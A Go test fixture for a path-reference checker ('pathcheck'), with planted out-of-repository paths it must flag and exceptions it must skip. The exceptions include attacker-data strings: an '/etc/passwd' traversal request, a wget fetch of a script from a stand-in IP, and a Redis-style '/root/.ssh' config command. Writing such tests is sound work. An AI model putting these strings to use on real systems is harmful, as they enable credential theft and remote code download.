package assemble

// Planted references for pathcheck's test: every line marked WANT must be
// found, no other line.

import (
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

const far = "../../../elsewhere" // WANT

const farJoined = "../" + "../" + "../beside"

func TestPlanted(t *testing.T) {
	os.ReadFile("/work/shared/data/a.csv")                          // WANT
	filepath.Join("..", "..", "..", "shared", "data")               // WANT
	os.Stat(far)                                                    // WANT
	os.Stat(farJoined)                                              // WANT
	os.UserHomeDir()                                                // WANT
	exec.Command("go", "env", "GOMODCACHE")                         // WANT
	os.Open("/root/data.csv")                                       // WANT
	os.Getenv("SPOKI_EXAMPLE_LOGS")                                 // WANT
	os.LookupEnv("SPOKI_DATA_DIR")                                  // WANT
	os.ReadFile(filepath.Join("/srv", "logs", "x.csv"))             // WANT
	os.ReadDir(filepath.Join(filepath.Join("..", ".."), "..", "x")) // WANT
	_ = "/home/alice/spoki-logs"                                    // WANT
	_ = "$GOPATH/pkg/mod/gvisor.dev"                                // WANT

	// Not references: inside the repository, system files, attacker data,
	// run-time paths.
	filepath.Join("..", "..", "records", "testdata")
	os.ReadFile(filepath.Join("testdata", "a.csv"))
	_ = []string{"config", "set", "dir", "/root/.ssh"}
	os.ReadFile("/proc/self/status")
	os.Open("/dev/net/tun")
	_ = "GET /../../../../etc/passwd HTTP/1.0"
	_ = "wget http://198.51.100.7/work/x.sh; cd /tmp"
	os.Getenv("SPOKI_BIN")
	os.Getenv("CI")
	os.Getenv("PATH")
	_ = "/home/x" // pathcheck:ignore (attacker data)
	dir := t.TempDir()
	os.ReadFile(dir + "/x")
	os.ReadFile(filepath.Join(dir, "..", "..", "..", "..", "x"))
}
